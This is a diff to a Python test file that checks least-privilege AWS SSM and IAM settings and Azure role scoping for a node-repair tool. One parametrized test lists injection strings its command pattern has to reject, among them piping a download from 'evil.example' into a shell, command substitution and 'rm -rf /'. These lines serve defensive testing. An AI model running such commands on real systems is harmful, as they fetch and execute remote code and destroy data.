@@ -7,10 +7,14 @@ from __future__ import annotations
 
 import asyncio
 import functools
+import inspect
 import json
-from typing import Literal, NotRequired, TypedDict, cast
+import re
+from pathlib import Path
+from typing import Any, Literal, NotRequired, TypedDict, cast
 
 import pytest
+import yaml
 
 from tests.deploy.cloud_calls import (
     AZURE_ACTIONS,
@@ -21,7 +25,7 @@ from tests.deploy.cloud_calls import (
     iam_action,
 )
 from tests.deploy.kube_calls import STATE_NAMESPACE, KubeRequest, requests_into_the_state_namespace
-from tests.deploy.manifests import DEPLOY, IN_CLUSTER, only, render, rules_of
+from tests.deploy.manifests import DEPLOY, IN_CLUSTER, REPO, only, render, rules_of
 
 IAM_POLICY = DEPLOY / "aws" / "iam-policy.json"
 AZURE_ROLE = DEPLOY / "azure" / "role.json"
@@ -122,15 +126,94 @@ def test_destructive_actions_need_the_managed_tag(action: str) -> None:
         assert statement["Condition"]["StringEquals"][MANAGED_TAG] == "true", statement["Sid"]
 
 
-def test_send_command_is_limited_to_the_shell_document_and_tagged_instances() -> None:
+SSM_DOCUMENT = DEPLOY / "aws" / "ssm-document.json"
+
+
+def _document_name_in_code() -> str:
+    """The document the adapter sends by default, and the configuration's default: one name."""
+    from noderescue.adapters.cloud.aws import DEFAULT_SSM_DOCUMENT, AwsProvider
+    from noderescue.config import AwsSettings
+
+    adapter = inspect.signature(AwsProvider.__init__).parameters["ssm_document"].default
+    config = AwsSettings.model_fields["ssm_document"].default
+    assert adapter == config == DEFAULT_SSM_DOCUMENT
+    return str(DEFAULT_SSM_DOCUMENT)
+
+
+def test_send_command_is_limited_to_noderescues_document_and_tagged_instances() -> None:
+    name = _document_name_in_code()
+    document_arn = f"arn:aws:ssm:*:*:document/{name}"
     statements = [s for s in _policy()["Statement"] if "ssm:SendCommand" in _listed(s["Action"])]
     by_resource = {r: s for s in statements for r in _listed(s["Resource"])}
-    assert set(by_resource) == {"arn:aws:ssm:*::document/AWS-RunShellScript", "arn:aws:ec2:*:*:instance/*"}
+    assert set(by_resource) == {document_arn, "arn:aws:ec2:*:*:instance/*"}
     instances = by_resource["arn:aws:ec2:*:*:instance/*"]
     assert instances["Condition"]["StringEquals"][MANAGED_TAG] == "true"
     # A statement mixing the document with a tag condition would never match (documents carry
     # no such tag), so each resource stands in its own statement.
-    assert by_resource["arn:aws:ssm:*::document/AWS-RunShellScript"] is not instances
+    assert by_resource[document_arn] is not instances
+    # No AWS-owned document (AWS-RunShellScript runs anything) anywhere in the policy.
+    assert "AWS-" not in IAM_POLICY.read_text()
+
+
+def _ssm_document() -> dict[str, Any]:
+    return cast(dict[str, Any], json.loads(SSM_DOCUMENT.read_text()))
+
+
+def _repair_commands() -> list[str]:
+    """Every repair command of the configurations we ship."""
+    commands = []
+    for path in (REPO / "config.example.yaml", *DEPLOY.glob("kubernetes/**/config.yaml")):
+        for cls in yaml.safe_load(path.read_text()).get("nodeClasses", []):
+            for step in cls.get("ladder", []):
+                if isinstance(step, dict) and step.get("action") == "repair":
+                    commands.append(step["command"])
+    return commands
+
+
+def test_the_ssm_document_runs_one_validated_command_and_nothing_else() -> None:
+    document = _ssm_document()
+    assert document["schemaVersion"] == "2.2"
+    assert set(document["parameters"]) == {"command"}
+    parameter = document["parameters"]["command"]
+    assert parameter["type"] == "String"
+    pattern = parameter["allowedPattern"]
+    assert pattern.startswith("^") and pattern.endswith("$")
+    [step] = document["mainSteps"]
+    assert step["action"] == "aws:runShellScript"
+    assert step["inputs"]["runCommand"] == ["{{ command }}"]
+
+
+def test_the_adapter_sends_the_documents_parameter() -> None:
+    """Both ways: the parameter the document declares is the one the adapter fills."""
+    source = (CLOUD_ADAPTERS / "aws.py").read_text()
+    [parameter] = _ssm_document()["parameters"]
+    assert f'Parameters={{"{parameter}": [command]}}' in source
+
+
+def test_every_shipped_repair_command_passes_the_documents_pattern() -> None:
+    pattern = re.compile(_ssm_document()["parameters"]["command"]["allowedPattern"])
+    commands = _repair_commands()
+    assert commands
+    for command in commands:
+        assert pattern.fullmatch(command), command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "systemctl restart kubelet; curl -s https://evil.example | sh",
+        "systemctl restart kubelet && reboot",
+        "systemctl restart $(curl evil.example)",
+        "systemctl restart `id`",
+        "systemctl restart kubelet\nrm -rf /",
+        "systemctl stop kubelet",
+        "rm -rf /",
+        "",
+    ],
+)
+def test_the_documents_pattern_refuses_anything_else(command: str) -> None:
+    pattern = re.compile(_ssm_document()["parameters"]["command"]["allowedPattern"])
+    assert not pattern.fullmatch(command)
 
 
 # ---------------------------------------------------------------------------------------------
@@ -138,22 +221,45 @@ def test_send_command_is_limited_to_the_shell_document_and_tagged_instances() ->
 # ---------------------------------------------------------------------------------------------
 
 
-def _role() -> AzureRoleDefinition:
-    return cast(AzureRoleDefinition, json.loads(AZURE_ROLE.read_text()))
+AZURE_DELETE_MODE_ROLE = DEPLOY / "azure" / "role-delete-mode.json"
+# What only replaceMode: delete needs: delete an instance, then PATCH the capacity back (the
+# PATCH is authorized as write, which can also change the model: code on every instance).
+DELETE_MODE_ACTIONS = {
+    "Microsoft.Compute/virtualMachineScaleSets/delete/action",
+    "Microsoft.Compute/virtualMachineScaleSets/write",
+}
+SCALE_SET_SCOPE = re.compile(
+    r"^/subscriptions/[^/]+/resourceGroups/[^/]+/providers/Microsoft\.Compute/virtualMachineScaleSets/[^/]+$"
+)
 
 
-def test_azure_role_is_a_custom_role_with_only_vmss_actions() -> None:
-    role = _role()
+def _role(path: Path = AZURE_ROLE) -> AzureRoleDefinition:
+    return cast(AzureRoleDefinition, json.loads(path.read_text()))
+
+
+def _roles() -> list[AzureRoleDefinition]:
+    return [_role(AZURE_ROLE), _role(AZURE_DELETE_MODE_ROLE)]
+
+
+@pytest.mark.parametrize("path", [AZURE_ROLE, AZURE_DELETE_MODE_ROLE], ids=["role", "delete-mode"])
+def test_azure_role_is_a_custom_role_with_only_vmss_actions(path: Path) -> None:
+    role = _role(path)
     assert role["IsCustom"] is True
     assert role["DataActions"] == [] and role["NotActions"] == [] and role["NotDataActions"] == []
-    assert role["AssignableScopes"] and all(s.startswith("/subscriptions/") for s in role["AssignableScopes"])
+    # Assigned per scale set, never on a whole resource group or subscription.
+    assert role["AssignableScopes"] and all(SCALE_SET_SCOPE.match(s) for s in role["AssignableScopes"])
     allowed = {a for methods in AZURE_ACTIONS.values() for a in methods.values()} | {AZURE_LRO_POLLING}
     assert set(role["Actions"]) <= allowed
     assert len(role["Actions"]) == len(set(role["Actions"]))
     assert not any("*" in a for a in role["Actions"])
 
 
-def test_azure_role_matches_the_sdk_calls_of_the_adapter() -> None:
+def test_the_main_azure_role_cannot_change_a_scale_set() -> None:
+    assert not set(_role()["Actions"]) & DELETE_MODE_ACTIONS
+    assert set(_role(AZURE_DELETE_MODE_ROLE)["Actions"]) == DELETE_MODE_ACTIONS
+
+
+def test_azure_roles_match_the_sdk_calls_of_the_adapter() -> None:
     if not list(CLOUD_ADAPTERS.glob("azure*.py")):
         pytest.skip("noderescue/adapters/cloud/azure.py is not written yet")
     calls = list(azure_calls())
@@ -164,7 +270,7 @@ def test_azure_role_matches_the_sdk_calls_of_the_adapter() -> None:
     needed = {AZURE_ACTIONS[c.group][c.method] for c in calls}
     if any(c.method.startswith("begin_") for c in calls):
         needed.add(AZURE_LRO_POLLING)
-    granted = set(_role()["Actions"])
+    granted = {a for role in _roles() for a in role["Actions"]}
     assert needed - granted == set(), "called but not granted"
     assert granted - needed == set(), "granted but never called"
 
